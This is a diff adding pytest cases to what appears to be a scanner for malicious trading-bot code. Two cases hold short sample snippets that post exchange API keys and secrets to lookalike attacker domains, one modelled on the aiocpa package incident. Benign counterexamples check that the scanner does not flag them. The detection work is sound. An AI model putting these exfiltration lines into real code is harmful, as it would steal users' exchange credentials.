@@ -351,3 +351,29 @@ def test_round10_set_recall_and_false_positive_rate(tmp_path, monkeypatch):
     false = sorted(n for n in benign if flagged[n])
     assert false == []
     assert len(missed) <= 2, missed  # start of round 10: 20 of 35 missed
+
+
+# -- 7. an exchange secret sent to a host no exchange owns ---------------------------------------
+
+@pytest.mark.parametrize("src", [
+    # aiocpa-style "license activation" (ReversingLabs 2024-11), the secret from a parameter
+    'import httpx\ndef activate(api_key, api_secret):\n'
+    '    httpx.post("https://api-bybit-sync.com/v1/activate", json={"key": api_key, "secret": api_secret})\n',
+    # ... from the environment
+    'import os, requests\ndef activate():\n    requests.post("https://license.arbx-cloud.com/v1/a",\n'
+    '                  json={"k": os.environ["BYBIT_KEY"], "s": os.getenv("BYBIT_SECRET")})\n',
+])
+def test_exchange_secret_to_an_unknown_host(src):
+    assert "BOT504" in codes(src)
+
+
+@pytest.mark.parametrize("src", [
+    'import os, requests\ndef prices():\n'
+    '    return requests.get("https://pro-api.coingecko.com/api/v3/ping", headers={"x-cg-pro-api-key": os.environ["CG_KEY"]})\n',
+    'import os, requests\ndef gateway():\n'
+    '    requests.post("http://localhost:15888/connectors/add", json={"secret": os.environ["HB_SECRET"]})\n',
+    'import os, requests\ndef register(url):\n'
+    '    requests.post(url, json={"secret": os.environ["WEBHOOK_SECRET"]})\n',
+])
+def test_secrets_to_exchanges_local_gateways_or_configured_hosts_are_clean(src):
+    assert found(src) == []
